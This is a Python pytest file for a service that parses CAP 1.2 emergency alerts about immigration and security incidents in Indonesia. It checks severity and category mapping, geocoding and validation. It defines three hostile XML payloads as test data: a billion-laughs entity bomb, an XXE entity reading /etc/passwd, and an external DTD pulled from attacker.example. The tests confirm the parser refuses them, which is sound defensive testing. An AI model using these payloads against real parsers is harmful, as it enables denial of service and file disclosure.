"""OASIS CAP 1.2 alerts: info/area choice, category and severity mapping, hostile XML."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from ingest_service.formats import MAX_XML_DEPTH, Parsed, SourceContext, parse
from ingest_service.formats.cap import cap_severity
from ingest_service.formats.cap_area import circle_center, polygon_centroid
from shared.schemas import Category, Report, Severity, SourceFormat

from .conftest import codes, only_report


def reports(parsed: list[Parsed]) -> list[Report]:
    assert all(p.report is not None for p in parsed), [p.reasons for p in parsed]
    return [p.report for p in parsed if p.report is not None]


NS = "urn:oasis:names:tc:emergency:cap:1.2"


def cap(info: str, *, status: str = "Actual", msg_type: str = "Alert") -> bytes:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<alert xmlns="{NS}">
  <identifier>KALSEL-TEST-1</identifier><sender>ops@example.go.id</sender>
  <sent>2026-01-12T09:30:00+08:00</sent><status>{status}</status>
  <msgType>{msg_type}</msgType><scope>Restricted</scope>
  {info}
</alert>""".encode()


def info(event: str, *, severity: str = "Moderate", urgency: str = "Expected",
         area: str = "", extra: str = "") -> str:  # fmt: skip
    return f"""<info><language>id-ID</language><category>Security</category>
      <event>{event}</event><urgency>{urgency}</urgency><severity>{severity}</severity>
      <certainty>Observed</certainty>{extra}{area}</info>"""


def test_sample_alert(ctx: SourceContext, sample: Callable[[str], bytes]) -> None:
    report, angsana = reports(parse("cap", sample("cap_satui_tambang.xml"), ctx))
    assert angsana.location.kecamatan_code == "63.10.09"  # its second area: a report too
    assert report.source_format is SourceFormat.cap
    assert report.upstream_ref == "POLRES-TANBU-2026-0112-007"
    assert report.category is Category.illegal_work  # "Pekerja asing tanpa izin"
    assert report.severity is Severity.critical  # Severe + Immediate
    assert report.occurred_at.isoformat() == "2026-01-12T00:45:00+00:00"  # onset
    # The id-ID info wins over the first (en-US) one; its first area is the first report.
    assert report.text.startswith("Pekerja asing tanpa izin")
    assert report.location.kecamatan_code == "63.10.04"
    assert report.location.kabupaten_code == "63.10"
    assert report.location.kecamatan_name == "Satui"
    assert report.location.kabupaten_name.endswith("Tanah Bumbu")  # official name if resolved
    assert report.location.latitude == pytest.approx(-3.85)
    assert report.location.longitude == pytest.approx(115.45)
    assert report.subject_count == 7
    assert [s.nationality for s in report.subjects] == ["CHN"]
    assert report.reporter.organisation == "Polsek Satui"


def test_first_info_when_no_indonesian(ctx: SourceContext) -> None:
    body = cap(
        "<info><language>en-US</language><category>Security</category>"
        "<event>Human trafficking suspected</event><urgency>Expected</urgency>"
        "<severity>Extreme</severity><certainty>Likely</certainty></info>"
        "<info><language>fr-FR</language><category>Security</category>"
        "<event>Autre</event><urgency>Past</urgency><severity>Minor</severity>"
        "<certainty>Likely</certainty></info>"
    )
    report = only_report(parse("cap", body, ctx))
    assert report.category is Category.human_trafficking
    assert report.severity is Severity.critical


@pytest.mark.parametrize(
    ("event", "category"),
    [
        ("Pekerja asing tanpa izin", Category.illegal_work),
        ("Dugaan perdagangan orang", Category.human_trafficking),
        ("Penyelundupan narkotika", Category.narcotics),
        ("WNA overstay", Category.overstay),
        ("Illegal entry by boat", Category.illegal_entry),
        ("Kegiatan tidak biasa", Category.suspicious_activity),  # CAP category Security
    ],
)
def test_event_categories(ctx: SourceContext, event: str, category: Category) -> None:
    assert only_report(parse("cap", cap(info(event)), ctx)).category is category


@pytest.mark.parametrize(
    ("severity", "urgency", "expected"),
    [
        ("Extreme", "Expected", Severity.critical),
        ("Severe", "Future", Severity.high),
        ("Moderate", "Expected", Severity.medium),
        ("Minor", "Past", Severity.low),
        ("Unknown", "Unknown", Severity.info),
        ("Minor", "Immediate", Severity.medium),
        ("Extreme", "Immediate", Severity.critical),
    ],
)
def test_severity_mapping(severity: str, urgency: str, expected: Severity) -> None:
    assert cap_severity(severity, urgency) is expected


def test_geocode_adm_and_circle(ctx: SourceContext) -> None:
    area = """<area><areaDesc>Angsana</areaDesc><circle>-3.6,115.6 5</circle>
      <geocode><valueName>ADM</valueName><value>631009</value></geocode></area>"""
    report = only_report(parse("cap", cap(info("WNA mencurigakan", area=area)), ctx))
    assert report.location.kecamatan_code == "63.10.09"
    assert (report.location.latitude, report.location.longitude) == (-3.6, 115.6)
    assert report.location.address == "Angsana"


def test_bad_geometry_is_ignored(ctx: SourceContext) -> None:
    area = (
        "<area><areaDesc>Satui</areaDesc><polygon>1,2 x,y</polygon><circle>99,0 1</circle></area>"
    )
    report = only_report(parse("cap", cap(info("WNA", area=area)), ctx))
    assert report.location.latitude is None


@pytest.mark.parametrize(
    ("status", "msg_type", "code"),
    [
        ("Exercise", "Alert", "not_actual"),
        ("Test", "Alert", "not_actual"),
        ("Actual", "Ack", "unsupported_msg_type"),
    ],
)
def test_not_routed(ctx: SourceContext, status: str, msg_type: str, code: str) -> None:
    [item] = parse("cap", cap(info("WNA"), status=status, msg_type=msg_type), ctx)
    assert codes(item) == [code]


def test_missing_required_fields(ctx: SourceContext) -> None:
    [item] = parse("cap", f'<alert xmlns="{NS}"><status>Actual</status></alert>'.encode(), ctx)
    assert set(codes(item)) == {"missing_field"}
    assert {r.path for r in item.reasons} == {
        "alert.identifier", "alert.sender", "alert.sent", "alert.msgType",
    }  # fmt: skip


def test_bad_onset_names_its_path(ctx: SourceContext) -> None:
    [item] = parse("cap", cap(info("WNA", extra="<onset>besok</onset>")), ctx)
    assert codes(item) == ["invalid_datetime"]
    assert item.reasons[0].path == "alert.info.onset"


def test_missing_info(ctx: SourceContext) -> None:
    [item] = parse("cap", cap(""), ctx)
    assert codes(item) == ["missing_field"]


def test_wrong_namespace(ctx: SourceContext) -> None:
    [item] = parse("cap", b"<alert><identifier>x</identifier></alert>", ctx)
    assert codes(item) == ["not_cap"]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol4;</identifier></alert>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&xxe;</identifier></alert>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>"""


@pytest.mark.parametrize("raw", [BILLION_LAUGHS, XXE, EXTERNAL_DTD])
def test_hostile_xml_is_refused(ctx: SourceContext, raw: bytes) -> None:
    [item] = parse("cap", raw, ctx)
    assert codes(item) == ["xml_forbidden"]
    assert "passwd" not in item.reasons[0].message


def test_deep_xml(ctx: SourceContext) -> None:
    depth = MAX_XML_DEPTH + 5
    raw = b"<a>" * depth + b"</a>" * depth
    assert codes(parse("cap", raw, ctx)[0]) == ["too_deep"]
    very_deep = b"<a>" * 120_000 + b"</a>" * 120_000  # just under MAX_BODY
    assert codes(parse("cap", very_deep, ctx)[0]) == ["too_deep"]


@pytest.mark.parametrize("raw", [b"<alert", b"not xml", b"<a></b>", b"\xff\xfe<\x00"])
def test_malformed_xml(ctx: SourceContext, raw: bytes) -> None:
    assert codes(parse("cap", raw, ctx)[0]) == ["invalid_xml"]


def test_geometry_helpers() -> None:
    lat, lon = polygon_centroid("0,0 0,2 2,2 2,0 0,0")
    assert (lat, lon) == pytest.approx((1.0, 1.0))
    assert polygon_centroid("1,1 1,1 1,1") == (1.0, 1.0)  # degenerate → vertex mean
    assert polygon_centroid("1,1") is None
    assert circle_center("-3.5,115.9 10") == (-3.5, 115.9)
    assert circle_center("") is None


def test_area_desc_resolves_with_real_regions(ctx: SourceContext, regions: object) -> None:
    area = "<area><areaDesc>Kecamatan Simpang Empat, Kabupaten Tanah Bumbu</areaDesc></area>"
    report = only_report(parse("cap", cap(info("WNA", area=area)), ctx))
    assert report.location.kecamatan_code == "63.10.06"
